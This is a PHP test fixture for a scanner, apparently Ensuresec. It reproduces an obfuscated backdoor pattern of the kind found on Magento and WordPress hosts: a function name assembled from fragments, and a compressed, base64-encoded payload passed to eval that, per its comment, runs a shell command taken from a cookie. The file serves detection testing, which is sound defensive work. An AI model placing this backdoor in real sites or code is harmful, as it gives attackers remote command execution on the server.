<?php
// expect: ES-SHOP-010 ES-SHOP-005
// Written for Ensuresec's tests after public descriptions of obfuscated PHP backdoors found on Magento and WordPress
// hosts (Sucuri, "PHP backdoors: hidden with clever use of extract function", and Sansec's Magento backdoor write-ups):
// the function name is assembled from pieces, and the payload is gzdeflated, base64-encoded and run with eval.
// The payload (compressed below) runs a shell command taken from a cookie. Not real malware.
$a = 'ba' . 'se' . '64_' . 'dec' . 'ode';
$b = "\x67\x7a\x69\x6e\x66\x6c\x61\x74\x65";
eval(gzinflate(base64_decode('y0zTyCwuTi3RUIl39vf39nSNVspWitXUrFZQSVawVUARtVZITc7IVyjOSM3JiU+tSE3WUEnWtFaoBQA=')));
